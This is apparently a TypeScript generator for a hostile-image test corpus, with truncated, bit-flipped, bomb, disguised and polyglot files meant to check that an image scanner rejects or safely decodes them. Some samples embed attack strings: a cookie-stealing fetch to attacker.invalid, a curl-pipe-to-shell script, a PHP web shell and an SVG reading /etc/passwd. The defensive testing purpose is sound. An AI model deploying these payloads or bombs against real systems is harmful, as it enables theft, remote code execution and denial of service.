// Hostile image bytes for the hostile-input corpus, made from real images: truncations and bit flips
// at many offsets, declared dimensions a decoder must not trust, polyglots, formats disguised as
// allowed ones, and odd but valid encodings that reach the detectors. Deterministic: the same
// sources and seed give the same bytes.
import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { prng } from '../../src/features/stats.js';

export type Format = 'png' | 'jpeg' | 'webp' | 'gif' | 'tiff';
export const FORMATS: readonly Format[] = ['png', 'jpeg', 'webp', 'gif', 'tiff'];
export const EXT: Record<Format, string> = { png: 'png', jpeg: 'jpg', webp: 'webp', gif: 'gif', tiff: 'tif' };

/**
 * What the scan must make of an image:
 * - `reject`: the file cannot be a usable sample; an error finding must name it.
 * - `either`: damaged data that a decoder may still turn into pixels (a flipped bit in JPEG entropy
 *   data). Either rejected or decoded, and then checked like any sample.
 * - `valid`: a real image in an odd encoding; it must decode and go through the detectors.
 */
export type ImageExpect = 'reject' | 'either' | 'valid';

export interface HostileImage {
  /** Short, file-name-safe id, unique in the corpus. */
  id: string;
  category: string;
  /** Extension the file is committed with. */
  ext: string;
  bytes: Buffer;
  expect: ImageExpect;
}


const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

export function crc32(buf: Uint8Array): number {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A PNG whose IHDR declares `width`×`height` over `idat` (deflated scanlines, possibly far too few). */
function pngWithHeader(width: number, height: number, colourType: number, idat: Buffer, extra: Buffer[] = []): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width >>> 0, 0);
  ihdr.writeUInt32BE(height >>> 0, 4);
  ihdr[8] = 8;
  ihdr[9] = colourType;
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), ...extra, pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** Inserts chunks right after IHDR of a real PNG. */
function pngInsert(png: Buffer, chunks: Buffer[]): Buffer {
  const afterIhdr = 8 + 8 + png.readUInt32BE(8) + 4;
  return Buffer.concat([png.subarray(0, afterIhdr), ...chunks, png.subarray(afterIhdr)]);
}

/** Offset of the first JPEG SOFn segment's marker (FFC0–FFCF except C4, C8, CC). */
function jpegSof(jpeg: Buffer): number {
  let i = 2;
  while (i + 4 < jpeg.length) {
    if (jpeg[i] !== 0xff) throw new Error('JPEG segment walk lost sync');
    const m = jpeg[i + 1]!;
    if (m >= 0xc0 && m <= 0xcf && m !== 0xc4 && m !== 0xc8 && m !== 0xcc) return i;
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('no SOF segment');
}

function jpegWithDimensions(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  const sof = jpegSof(out);
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/** Inserts a segment (marker + payload) right after SOI. */
function jpegInsert(jpeg: Buffer, marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, payload, jpeg.subarray(2)]);
}

/** Offset of a RIFF chunk's payload in a WebP file. */
function webpChunk(webp: Buffer, fourcc: string): number {
  let i = 12;
  while (i + 8 <= webp.length) {
    const size = webp.readUInt32LE(i + 4);
    if (webp.toString('latin1', i, i + 4) === fourcc) return i + 8;
    i += 8 + size + (size & 1);
  }
  throw new Error(`no ${fourcc} chunk`);
}

function gifWithDimensions(gif: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(gif);
  out.writeUInt16LE(width, 6);
  out.writeUInt16LE(height, 8);
  const gct = out[10]! & 0x80 ? 3 * 2 ** ((out[10]! & 7) + 1) : 0;
  let i = 13 + gct;
  while (i < out.length && out[i] === 0x21) {
    i += 2;
    while (out[i]! > 0) i += out[i]! + 1;
    i++;
  }
  if (out[i] === 0x2c) {
    out.writeUInt16LE(width, i + 5);
    out.writeUInt16LE(height, i + 7);
  }
  return out;
}

/** Rewrites the value of TIFF tags in IFD0 (little-endian, as sharp writes them) in place. */
function tiffWithTags(tiff: Buffer, values: Record<number, number>): Buffer {
  const out = Buffer.from(tiff);
  if (out.toString('latin1', 0, 2) !== 'II') throw new Error('expected a little-endian TIFF');
  const ifd = out.readUInt32LE(4);
  const n = out.readUInt16LE(ifd);
  for (let k = 0; k < n; k++) {
    const e = ifd + 2 + 12 * k;
    const tag = out.readUInt16LE(e);
    const value = values[tag];
    if (value === undefined) continue;
    const type = out.readUInt16LE(e + 2);
    if (type === 3) {
      out.writeUInt16LE(4, e + 2); // SHORT → LONG, so large values fit
    }
    out.writeUInt32LE(value >>> 0, e + 8);
  }
  return out;
}

/** A stored (uncompressed) one-file ZIP archive. */
export function storedZip(name: string, data: Buffer): Buffer {
  const nameBytes = Buffer.from(name, 'utf8');
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localLength = local.length + nameBytes.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localLength, 16);
  return Buffer.concat([local, nameBytes, data, central, nameBytes, end]);
}

/** A 24-bit BMP (BITMAPINFOHEADER), which poisongate never decodes. */
function bmp(width: number, height: number): Buffer {
  const row = Math.ceil((width * 3) / 4) * 4;
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + row * height, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  return Buffer.concat([header, Buffer.alloc(row * height, 0x80)]);
}

export interface ImageSources {
  /** A real photo (RGB), e.g. a crop of fixtures/backbone/chelsea.png. */
  photo: Buffer;
  /** A real Fashion-MNIST image (grayscale PNG). */
  gray: Buffer;
}

/** The real images encoded in every accepted format. */
async function encodeAll(src: Buffer): Promise<Record<Format, Buffer>> {
  const img = sharp(src);
  return {
    png: await img.clone().png().toBuffer(),
    jpeg: await img.clone().jpeg({ quality: 85 }).toBuffer(),
    webp: await img.clone().webp({ quality: 80 }).toBuffer(),
    gif: await img.clone().gif().toBuffer(),
    tiff: await img.clone().tiff({ compression: 'lzw' }).toBuffer(),
  };
}

/** Cut points: structural offsets near the start, then fractions of the file. */
function cutPoints(length: number, count: number): number[] {
  const fixed = [1, 2, 3, 4, 7, 8, 12, 16, 20, 24, 33, 40, 64];
  const cuts = new Set(fixed.filter((c) => c < length));
  for (let k = 1; cuts.size < count && k <= count * 2; k++) cuts.add(Math.floor((length * k) / (count - fixed.length + 1)));
  cuts.add(length - 1);
  cuts.add(length - 2);
  return [...cuts].filter((c) => c > 0 && c < length).sort((a, b) => a - b).slice(0, count);
}

/** Truncations and bit flips of real images in each format. */
async function damaged(src: ImageSources, perFormat: { cuts: number; flips: number }): Promise<HostileImage[]> {
  const out: HostileImage[] = [];
  const photo = await encodeAll(src.photo);
  const gray = await encodeAll(src.gray);
  const rnd = prng(0x5eed);
  for (const f of FORMATS) {
    for (const cut of cutPoints(photo[f].length, perFormat.cuts)) {
      out.push({ id: `${f}-cut-${cut}`, category: 'truncated', ext: EXT[f], bytes: photo[f].subarray(0, cut), expect: 'reject' });
    }
    for (let k = 0; k < perFormat.flips; k++) {
      const source = k % 2 === 0 ? photo[f] : gray[f];
      const bytes = Buffer.from(source);
      const at = Math.floor(rnd() * bytes.length);
      const bit = Math.floor(rnd() * 8);
      bytes[at] = bytes[at]! ^ (1 << bit);
      out.push({ id: `${f}-flip-${k % 2 === 0 ? 'photo' : 'gray'}-${at}-${bit}`, category: 'bit-flip', ext: EXT[f], bytes, expect: 'either' });
    }
  }
  return out;
}

/** Headers declaring more pixels than any limit allows, over a few bytes of data; and real compression bombs. */
async function bombs(src: ImageSources): Promise<HostileImage[]> {
  const photo = await encodeAll(src.photo);
  const progressive = await sharp(src.photo).jpeg({ progressive: true }).toBuffer();
  const lossless = await sharp(src.photo).webp({ lossless: true }).toBuffer();
  const alpha = await sharp(src.photo).ensureAlpha(0.5).webp().toBuffer();
  const zeros = (w: number, h: number, bpp: number) => deflateSync(Buffer.alloc(h * (1 + w * bpp)), { level: 9 });
  const b = (id: string, ext: string, bytes: Buffer): HostileImage => ({ id, category: 'bomb', ext, bytes, expect: 'reject' });

  const vp8 = Buffer.from(photo.webp);
  const v = webpChunk(vp8, 'VP8 ');
  vp8.writeUInt16LE(0x3fff, v + 6);
  vp8.writeUInt16LE(0x3fff, v + 8);
  const vp8l = Buffer.from(lossless);
  const l = webpChunk(vp8l, 'VP8L');
  vp8l.writeUInt32LE((vp8l.readUInt32LE(l + 1) & 0xf0000000) | 0x0fffffff, l + 1); // 16384 × 16384
  const vp8x = Buffer.from(alpha);
  const x = webpChunk(vp8x, 'VP8X');
  vp8x.writeUIntLE(0xffffff, x + 4, 3);
  vp8x.writeUIntLE(0xffffff, x + 7, 3);

  return [
    b('png-dims-100000x100000', 'png', pngWithHeader(100000, 100000, 0, zeros(64, 64, 1))),
    b('png-dims-1x2147483647', 'png', pngWithHeader(1, 0x7fffffff, 0, zeros(1, 64, 1))),
    b('png-dims-0x0', 'png', pngWithHeader(0, 0, 0, zeros(1, 1, 1))),
    b('png-dims-4294967295', 'png', pngWithHeader(0xffffffff, 0xffffffff, 2, zeros(1, 1, 3))),
    // Real zlib bombs: every scanline is there, 16.8 MP (gray) and 50 MP (RGB) of zeros in a few KB.
    b('png-zlib-bomb-4096x4096', 'png', pngWithHeader(4096, 4096, 0, zeros(4096, 4096, 1))),
    b('png-zlib-bomb-8192x6144-rgb', 'png', pngWithHeader(8192, 6144, 2, zeros(8192, 6144, 3))),
    b('jpeg-dims-65535x65535', 'jpg', jpegWithDimensions(photo.jpeg, 65535, 65535)),
    b('jpeg-dims-65000x1', 'jpg', jpegWithDimensions(photo.jpeg, 65000, 1)),
    b('jpeg-progressive-dims-30000x30000', 'jpg', jpegWithDimensions(progressive, 30000, 30000)),
    b('webp-vp8-dims-16383x16383', 'webp', vp8),
    b('webp-vp8l-dims-16384x16384', 'webp', vp8l),
    b('webp-vp8x-canvas-16777216', 'webp', vp8x),
    b('gif-dims-65535x65535', 'gif', gifWithDimensions(photo.gif, 65535, 65535)),
    b('gif-dims-65535x1', 'gif', gifWithDimensions(photo.gif, 65535, 1)),
    b('tiff-dims-4294967295', 'tif', tiffWithTags(photo.tiff, { 256: 0xffffffff, 257: 0xffffffff })),
    b('tiff-dims-100000x100000', 'tif', tiffWithTags(photo.tiff, { 256: 100000, 257: 100000 })),
    b('tiff-deflate-bomb-8192x8192', 'tif', await sharp({ create: { width: 8192, height: 8192, channels: 3, background: '#000' } }).toColourspace('b-w').tiff({ compression: 'deflate' }).toBuffer()),
  ];
}

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="file:///etc/passwd" width="64" height="64"/></svg>\n';
const PDF = '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n';
const HTML = '<!doctype html><html><body><script>fetch("https://attacker.invalid/?c="+document.cookie)</script></body></html>\n';

/** Formats a dataset must not decode (SVG can reference files, PDF runs a renderer), named as allowed ones; and files that are two formats at once. */
async function disguisedAndPolyglots(src: ImageSources): Promise<HostileImage[]> {
  const photo = await encodeAll(src.photo);
  const avif = await sharp(src.photo).avif().toBuffer();
  const heic = Buffer.from(avif);
  heic.write('heic', 8, 'latin1'); // major brand: HEVC-coded HEIF
  const d = (id: string, ext: string, bytes: Buffer | string): HostileImage => ({ id, category: 'disguised', ext, bytes: Buffer.from(bytes), expect: 'reject' });
  const p = (id: string, ext: string, bytes: Buffer, expect: ImageExpect = 'reject'): HostileImage => ({ id, category: 'polyglot', ext, bytes, expect });
  const zip = storedZip('payload.sh', Buffer.from('#!/bin/sh\ncurl https://attacker.invalid | sh\n'));
  const riff = (fourcc: string, payload: Buffer) => {
    const h = Buffer.alloc(12);
    h.write('RIFF', 0, 'latin1');
    h.writeUInt32LE(4 + payload.length, 4);
    h.write(fourcc, 8, 'latin1');
    return Buffer.concat([h, payload]);
  };
  const webpLong = Buffer.from(photo.webp);
  webpLong.writeUInt32LE(photo.webp.length * 4, 4);
  return [
    d('svg-as-png', 'png', SVG),
    d('svg-as-jpg', 'jpg', SVG),
    d('svg-xml-prolog-as-webp', 'webp', `<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`),
    d('svgz-as-png', 'png', gzipSync(SVG)),
    d('pdf-as-png', 'png', PDF),
    d('pdf-as-tif', 'tif', PDF),
    d('avif-as-png', 'png', avif),
    d('avif-as-webp', 'webp', avif),
    d('heic-as-jpg', 'jpg', heic),
    d('heic-as-gif', 'gif', heic),
    d('bmp-as-png', 'png', bmp(8, 8)),
    d('ico-as-png', 'png', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 8, 8, 0, 0, 1, 0, 32, 0]), Buffer.alloc(64)])),
    d('jxl-codestream-as-png', 'png', Buffer.concat([Buffer.from([0xff, 0x0a, 0xfa, 0x7f]), Buffer.alloc(32)])),
    d('jxl-container-as-jpg', 'jpg', Buffer.concat([Buffer.from('0000000c4a584c200d0a870a', 'hex'), Buffer.alloc(32)])),
    d('jp2-as-jpg', 'jpg', Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(32)])),
    d('psd-as-png', 'png', Buffer.concat([Buffer.from('8BPS', 'latin1'), Buffer.alloc(40)])),
    d('exr-as-tif', 'tif', Buffer.concat([Buffer.from([0x76, 0x2f, 0x31, 0x01]), Buffer.alloc(40)])),
    d('ppm-as-png', 'png', Buffer.concat([Buffer.from('P6\n4 4\n255\n', 'latin1'), Buffer.alloc(48, 0x7f)])),
    d('fits-as-tif', 'tif', `SIMPLE  =                    T${' '.repeat(50)}BITPIX  =                    8`),
    d('vips-native-as-png', 'png', Buffer.concat([Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), Buffer.alloc(64)])),
    d('riff-wave-as-webp', 'webp', riff('WAVE', Buffer.alloc(16))),
    d('riff-webp-unknown-chunk', 'webp', riff('WEBP', Buffer.concat([Buffer.from('VP8Z', 'latin1'), Buffer.alloc(20)]))),
    d('html-as-gif', 'gif', HTML),
    d('zip-as-tif', 'tif', zip),
    d('elf-as-png', 'png', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)])),
    p('png-then-zip', 'png', Buffer.concat([photo.png, zip])),
    p('zip-then-png', 'png', Buffer.concat([zip, photo.png])),
    p('png-then-pdf', 'png', Buffer.concat([photo.png, Buffer.from(PDF)])),
    p('pdf-then-png', 'png', Buffer.concat([Buffer.from(PDF), photo.png])),
    p('jpeg-then-html', 'jpg', Buffer.concat([photo.jpeg, Buffer.from(HTML)])),
    p('html-then-jpeg', 'jpg', Buffer.concat([Buffer.from(HTML), photo.jpeg])),
    p('jpeg-then-zip', 'jpg', Buffer.concat([photo.jpeg, zip])),
    p('gif-then-js', 'gif', Buffer.concat([photo.gif, Buffer.from('\n=1;alert(document.domain);//\n')])),
    p('webp-then-html', 'webp', Buffer.concat([photo.webp, Buffer.from(HTML)])),
    p('webp-riff-size-past-end', 'webp', webpLong),
    // A payload inside the format's own structure is data the decoder skips; the pixels are checked.
    p('jpeg-html-in-comment', 'jpg', jpegInsert(photo.jpeg, 0xfe, Buffer.from(HTML)), 'valid'),
    p('png-php-in-text-chunk', 'png', pngInsert(photo.png, [pngChunk('tEXt', Buffer.from('Comment\0<?php system($_GET["c"]); ?>', 'latin1'))]), 'valid'),
    p('tiff-then-zip', 'tif', Buffer.concat([photo.tiff, zip]), 'either'),
  ];
}

/** Real images in encodings that are valid but unusual: every one must decode and reach the detectors. */
async function oddButValid(src: ImageSources): Promise<HostileImage[]> {
  const s = () => sharp(src.photo);
  const v = (id: string, ext: string, bytes: Buffer): HostileImage => ({ id, category: 'odd-valid', ext, bytes, expect: 'valid' });
  const frames = async () => [await s().resize(32, 32).png().toBuffer(), await s().resize(32, 32).flop().png().toBuffer(), await s().resize(32, 32).negate().png().toBuffer()];
  const animated = () => frames().then((f) => sharp(f, { join: { animated: true } }));
  const luma = await sharp(src.gray).toColourspace('b-w').raw().toBuffer({ resolveWithObject: true });
  const grayAlpha = Buffer.alloc(luma.data.length * 2);
  luma.data.forEach((g, i) => ((grayAlpha[2 * i] = g), (grayAlpha[2 * i + 1] = 180)));
  const tiny = (fmt: Format) => sharp(src.photo).resize(1, 1).toFormat(fmt).toBuffer();
  return [
    ...(await Promise.all(FORMATS.map(async (f) => v(`${f}-1x1`, EXT[f], await tiny(f))))),
    v('png-1x4096', 'png', await s().resize(1, 4096, { fit: 'fill' }).png().toBuffer()),
    v('png-4096x1', 'png', await s().resize(4096, 1, { fit: 'fill' }).png().toBuffer()),
    v('png-2000x2000-solid', 'png', await sharp({ create: { width: 2000, height: 2000, channels: 3, background: { r: 90, g: 90, b: 90 } } }).png().toBuffer()),
    v('png-16bit-gray', 'png', await sharp(src.gray).toColourspace('grey16').png().toBuffer()),
    v('png-16bit-rgb', 'png', await s().toColourspace('rgb16').png().toBuffer()),
    v('png-palette', 'png', await s().png({ palette: true, colours: 16 }).toBuffer()),
    v('png-gray-alpha', 'png', await sharp(grayAlpha, { raw: { width: luma.info.width, height: luma.info.height, channels: 2 } }).png().toBuffer()),
    v('png-rgba', 'png', await s().ensureAlpha(0.3).png().toBuffer()),
    v('png-interlaced', 'png', await s().png({ progressive: true }).toBuffer()),
    v('jpeg-progressive', 'jpg', await s().jpeg({ progressive: true }).toBuffer()),
    v('jpeg-cmyk', 'jpg', await s().toColourspace('cmyk').jpeg().toBuffer()),
    v('jpeg-gray', 'jpg', await sharp(src.gray).jpeg().toBuffer()),
    v('jpeg-exif-orientation-6', 'jpg', await s().jpeg().withMetadata({ orientation: 6 }).toBuffer()),
    v('jpeg-uppercase-ext', 'JPG', await s().jpeg().toBuffer()),
    v('jpeg-jpe-ext', 'jpe', await s().jpeg().toBuffer()),
    v('gif-animated', 'gif', await (await animated()).gif().toBuffer()),
    v('webp-animated', 'webp', await (await animated()).webp().toBuffer()),
    v('tiff-multipage', 'tif', await (await animated()).tiff().toBuffer()),
    v('webp-lossless', 'webp', await s().webp({ lossless: true }).toBuffer()),
    v('webp-alpha', 'webp', await s().ensureAlpha(0.5).webp().toBuffer()),
    v('tiff-16bit', 'tiff', await s().toColourspace('rgb16').tiff().toBuffer()),
    v('tiff-float', 'tif', await sharp(new Float32Array(32 * 32).map((_, i) => (i % 32) / 32), { raw: { width: 32, height: 32, channels: 1 } }).tiff().toBuffer()),
    v('tiff-tiled', 'tif', await s().tiff({ tile: true, tileWidth: 16, tileHeight: 16 }).toBuffer()),
    v('tiff-jpeg-compressed', 'tif', await s().tiff({ compression: 'jpeg' }).toBuffer()),
    v('tiff-gray', 'tif', await sharp(src.gray).tiff().toBuffer()),
  ];
}

/** Metadata a decoder may parse before any pixel: many or huge chunks, compressed text and profiles. */
async function metadataBombs(src: ImageSources): Promise<HostileImage[]> {
  const photo = await encodeAll(src.photo);
  const e = (id: string, ext: string, bytes: Buffer): HostileImage => ({ id, category: 'metadata-bomb', ext, bytes, expect: 'either' });
  const text = Array.from({ length: 2000 }, (_, i) => pngChunk('tEXt', Buffer.from(`k${i}\0${'v'.repeat(200)}`, 'latin1')));
  const ztxt = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 })]));
  const iccp = pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0', 'latin1'), deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 })]));
  const app = Array.from({ length: 60 }, (_, i) => i);
  let jpeg = photo.jpeg;
  for (const i of app) jpeg = jpegInsert(jpeg, 0xef, Buffer.alloc(65533, i));
  const gifComments = Buffer.concat(Array.from({ length: 5000 }, () => Buffer.from([0x21, 0xfe, 5, 0x68, 0x65, 0x6c, 0x6c, 0x6f, 0])));
  const gctSize = photo.gif[10]! & 0x80 ? 3 * 2 ** ((photo.gif[10]! & 7) + 1) : 0;
  const gifAt = 13 + gctSize;
  const loop = Buffer.from(photo.tiff);
  const ifd = loop.readUInt32LE(4);
  loop.writeUInt32LE(ifd, ifd + 2 + 12 * loop.readUInt16LE(ifd)); // next IFD = this IFD
  return [
    e('png-2000-text-chunks', 'png', pngInsert(photo.png, text)),
    e('png-ztxt-64mib', 'png', pngInsert(photo.png, [ztxt])),
    e('png-iccp-64mib', 'png', pngInsert(photo.png, [iccp])),
    e('jpeg-60-app15-segments', 'jpg', jpeg),
    e('gif-5000-comments', 'gif', Buffer.concat([photo.gif.subarray(0, gifAt), gifComments, photo.gif.subarray(gifAt)])),
    e('tiff-ifd-loop', 'tif', loop),
  ];
}

/** The same image under another format's extension, and zero-byte files. */
async function misnamed(src: ImageSources): Promise<HostileImage[]> {
  const photo = await encodeAll(src.photo);
  const out: HostileImage[] = [];
  for (const f of FORMATS) {
    for (const g of FORMATS) {
      if (f !== g) out.push({ id: `${f}-named-${g}`, category: 'wrong-extension', ext: EXT[g], bytes: photo[f], expect: 'reject' });
    }
  }
  for (const ext of ['png', 'jpg', 'jpeg', 'webp', 'gif', 'tif', 'tiff']) {
    out.push({ id: `zero-bytes-${ext}`, category: 'zero-bytes', ext, bytes: Buffer.alloc(0), expect: 'reject' });
  }
  return out;
}

/** Every hostile image of the corpus, in a stable order. */
export async function hostileImages(src: ImageSources, perFormat = { cuts: 20, flips: 24 }): Promise<HostileImage[]> {
  const all = [
    ...(await damaged(src, perFormat)),
    ...(await bombs(src)),
    ...(await misnamed(src)),
    ...(await disguisedAndPolyglots(src)),
    ...(await oddButValid(src)),
    ...(await metadataBombs(src)),
  ];
  const ids = new Set<string>();
  for (const h of all) {
    if (ids.has(h.id)) throw new Error(`duplicate hostile image id ${h.id}`);
    ids.add(h.id);
  }
  return all;
}
